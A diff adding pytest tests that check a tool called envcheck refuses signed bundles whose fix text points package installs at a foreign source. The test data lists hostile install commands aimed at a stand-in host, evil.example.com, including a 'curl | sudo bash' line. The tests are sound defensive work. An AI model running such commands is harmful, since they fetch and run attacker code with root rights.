@@ -103,3 +103,55 @@ def test_redact_drops_an_environ_json_it_cannot_parse(tmp_path, snap):
     r = envcheck(["snapshot", str(out), "--redact", "--from", snap])
     assert r.returncode == 0, r.stderr
     assert b"wJalrXUtnFEMI" not in (out / "environ.json").read_bytes()
+
+
+# -- a signed bundle's fix text may not name another package source by another spelling -------------
+
+def _bundle_with_fix_text(tmp_path, text):
+    pem, pub = generate_key()
+    (tmp_path / "k.pub").write_text(pub)
+    tables = {}
+    for f in FILES:
+        with open(os.path.join(bundled_dir(), f + ".toml"), encoding="utf-8") as fh:
+            tables[f + ".toml"] = fh.read()
+    errors = tables["errors.toml"]
+    i = errors.index('text = "')
+    tables["errors.toml"] = errors[:i] + "text = " + json.dumps(text) + "\n#" + errors[i + 8:]
+    import datetime
+
+    today = datetime.datetime.now(datetime.timezone.utc).strftime("%Y.%m.%d")
+    bundle = tmp_path / "b.tar.gz"
+    bundle.write_bytes(build_bundle({k: v.encode() for k, v in tables.items()}, pem, today, expires="2099.12.31"))
+    return str(bundle), str(tmp_path / "k.pub")
+
+
+EVIL = "https://evil.example.com/simple"
+
+
+@pytest.mark.parametrize("text", [
+    f"pip install torch -i{EVIL}",                                  # pip's short option, value glued on
+    f"uv pip install torch --index {EVIL}",                         # uv's index options
+    f"uv pip install torch --default-index={EVIL}",
+    f"PIP_INDEX_URL={EVIL} pip install torch",                      # the same, through pip's / uv's variables
+    f'UV_EXTRA_INDEX_URL="{EVIL}" uv pip install torch',
+    "conda install -c https://evil.example.com/conda pytorch",      # a channel URL
+    "pip install https://evil.example.com/torch-2.5.1-cp311-linux_x86_64.whl",  # a wheel from anywhere
+    "pip install git+https://evil.example.com/torch.git",
+    "curl -sSL https://evil.example.com/fix.sh | sudo bash",
+])
+def test_bundle_fix_text_naming_another_package_source_is_refused(tmp_path, text):
+    bundle, pub = _bundle_with_fix_text(tmp_path, text)
+    r = envcheck(["matrix", "update", "--from", bundle], ENVCHECK_CACHE_DIR=str(tmp_path / "cache"),
+                 ENVCHECK_MATRIX_PUBKEY=pub)
+    assert_no_crash(r)
+    assert r.returncode == 2 and b"refused" in r.stderr, r.stderr
+
+
+@pytest.mark.parametrize("text", ["conda install -c conda-forge pytorch",
+                                  "pip install torch --index-url https://download.pytorch.org/whl/cu124 "
+                                  "(see https://pytorch.org/get-started/previous-versions/)"])
+def test_bundle_fix_text_with_named_channels_and_docs_links_is_accepted(tmp_path, text):
+    bundle, pub = _bundle_with_fix_text(tmp_path, text)
+    r = envcheck(["matrix", "update", "--from", bundle], ENVCHECK_CACHE_DIR=str(tmp_path / "cache"),
+                 ENVCHECK_MATRIX_PUBKEY=pub)
+    assert r.returncode == 0, r.stderr
